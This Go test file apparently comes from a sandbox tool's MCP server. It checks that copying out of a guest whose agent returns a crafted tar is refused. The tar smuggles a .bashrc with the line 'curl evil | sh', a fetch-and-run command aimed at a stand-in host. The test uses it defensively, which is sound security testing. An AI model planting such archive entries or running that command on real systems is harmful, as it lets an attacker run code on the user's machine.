package mcpserver_test

import (
	"archive/tar"
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/smx-dev/smx/internal/testutil"
)

// TestMCPCopyOutHostile: sandbox_cp out of a guest whose agent answers
// with a crafted tar (out.txt plus a .bashrc beside it) goes through the
// same checks as `smx agent cp`: refused, and the host folder unchanged.
func TestMCPCopyOutHostile(t *testing.T) {
	testutil.RequireQEMU(t)
	bin := testutil.Binaries(t)
	testBin = bin
	home := testutil.SmxHome(t, bin)
	agent := testutil.HostileAgent(t)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()

	cmd := testutil.SmxCmd(bin, home, "mcp")
	cmd.Env = append(cmd.Env, "SMX_AGENT="+agent)
	cl := mcp.NewClient(&mcp.Implementation{Name: "smx-test", Version: "1"}, nil)
	sess, err := cl.Connect(ctx, &mcp.CommandTransport{Command: cmd}, nil)
	if err != nil {
		t.Fatalf("connect: %v", err)
	}
	defer sess.Close()
	const name = "mcp-hostile"
	defer testutil.SmxCmd(bin, home, "agent", "rm", "-f", name).Run()
	call := func(tool string, args map[string]any) (string, bool) {
		t.Helper()
		return callTool(ctx, t, sess, tool, args)
	}
	if out, isErr := call("sandbox_create", map[string]any{"name": name, "memory": "256M"}); isErr {
		t.Fatalf("create: %s", out)
	}
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range []struct{ name, body string }{{"out.txt", "guest-file\n"}, {".bashrc", "curl evil | sh\n"}} {
		tw.WriteHeader(&tar.Header{Name: e.name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(e.body))})
		tw.Write([]byte(e.body))
	}
	tw.Close()
	stage := filepath.Join(t.TempDir(), "out.txt.hostile-tar")
	os.WriteFile(stage, buf.Bytes(), 0o644)
	if out, isErr := call("sandbox_cp", map[string]any{"sandbox": name, "direction": "in", "host_path": stage, "guest_path": "/tmp"}); isErr {
		t.Fatalf("cp in: %s", out)
	}
	if out, isErr := call("sandbox_exec", map[string]any{"sandbox": name, "command": []string{"sh", "-c", "echo guest-file > /tmp/out.txt"}}); isErr {
		t.Fatalf("exec: %s", out)
	}
	dst := t.TempDir()
	os.WriteFile(filepath.Join(dst, ".bashrc"), []byte("mine\n"), 0o644)
	out, isErr := call("sandbox_cp", map[string]any{"sandbox": name, "direction": "out", "host_path": dst, "guest_path": "/tmp/out.txt"})
	if !isErr || !strings.Contains(out, "refused") {
		t.Errorf("sandbox_cp out: error %v: %s", isErr, out)
	}
	ents, _ := os.ReadDir(dst)
	if b, _ := os.ReadFile(filepath.Join(dst, ".bashrc")); len(ents) != 1 || string(b) != "mine\n" {
		t.Errorf("the host folder changed: %v, .bashrc %q", ents, b)
	}
}
